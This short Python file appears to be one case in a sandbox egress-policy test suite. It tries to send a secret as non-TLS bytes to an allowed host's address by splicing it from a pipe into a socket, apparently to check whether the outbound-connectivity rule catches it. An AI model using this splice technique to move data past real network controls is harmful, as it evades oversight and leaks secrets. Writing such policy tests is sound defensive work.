# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: bytes that are not TLS go to an allowed name's address from a pipe, by splice
# proof: word
# needs: resolver
import os

from attack import SECRET, at_allowed, attempt, libc


def say(out):
    near, far = os.pipe()
    os.write(far, SECRET.encode())
    libc().splice(near, None, out.fileno(), None, len(SECRET), 0)


@attempt
def send():
    return at_allowed(say)
